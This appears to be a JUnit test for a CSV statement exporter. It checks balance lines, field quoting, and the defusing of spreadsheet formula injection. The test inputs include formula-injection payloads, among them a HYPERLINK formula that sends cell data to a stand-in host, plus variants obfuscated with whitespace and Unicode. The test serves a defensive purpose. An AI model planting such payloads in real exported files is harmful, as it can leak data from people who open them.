package dev.saldo.server.statement;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvStatementTest {
  private static final int REFERENCE = 4;
  private static final int MEMO = 5;

  @Test
  void everyLineHasTheBalanceAfterIt() {
    assertEquals(
        """
        time,transactionId,type,effectiveDate,reference,memo,linkedTo,postedBy,currency,amount,change,\
        accountBalance,available,held,creditLimit,forcedReason\r
        2026-10-01T00:00:00.000000+02:00,,opening_balance,,,,,,USD,,,10020.00,10000.00,20.00,500.00,\r
        2026-10-25T02:30:36.000000+02:00,3076913644915998720-1,charge,2026-10-24,INV-1,fee,,ann,USD,1.00,-1.00,\
        10019.00,9999.00,20.00,500.00,\r
        2026-11-01T00:00:00.000000+01:00,,closing_balance,,,,,,USD,,,10019.00,9999.00,20.00,500.00,\r
        """,
        written("INV-1", "fee"));
  }

  @Test
  void provisionalStatementSaysSoAndWhenItWasRead() {
    String csv =
        new String(StatementSamples.provisional(StatementFormat.CSV), StandardCharsets.UTF_8);
    assertTrue(
        csv.endsWith(
            """
            2026-10-31T23:59:59.000000+01:00,,provisional,,,The last day is not over: entries may be added.,,,USD,,,\
            10020.00,10000.00,20.00,500.00,\r
            2026-10-31T23:59:59.000000+01:00,,closing_balance,,,,,,USD,,,10020.00,10000.00,20.00,500.00,\r
            """),
        csv);
  }

  @Test
  void separatorsQuotesAndLineBreaksStayInTheirField() {
    String reference = "a,b;\"c\"";
    String memo = "first\r\nsecond, \"third\"";

    CsvRecord line = read(written(reference, memo));

    assertEquals(reference, line.getField(REFERENCE));
    assertEquals(memo, line.getField(MEMO));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "=HYPERLINK(\"http://example.com?\"&A1)",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "\u00a0=1",
        "\u200b=1",
        "\ufeff=1",
        "＝1",
        "＋1",
        "－1",
        "＠A",
        "=",
      })
  void whatBeginsLikeAFormulaIsAText(String formula) {
    CsvRecord line = read(written(formula, formula));

    assertEquals("'" + formula, line.getField(REFERENCE));
    assertEquals("'" + formula, line.getField(MEMO));
  }

  @ParameterizedTest
  @ValueSource(strings = {"", " ", "INV-1", "a=1", "1+1", "Größe", "星纵", "'quoted'", "\"=1\""})
  void otherTextStaysAsItIs(String text) {
    assertEquals(text, read(written(text, text)).getField(REFERENCE));
  }

  private static String written(String reference, String memo) {
    return new String(
        StatementSamples.written(StatementFormat.CSV, "Acme", reference, memo),
        StandardCharsets.UTF_8);
  }

  /** The one line between header, opening and closing. */
  private static CsvRecord read(String csv) {
    List<CsvRecord> records = CsvReader.builder().ofCsvRecord(csv).stream().toList();
    assertEquals(4, records.size(), csv);
    return records.get(2);
  }
}
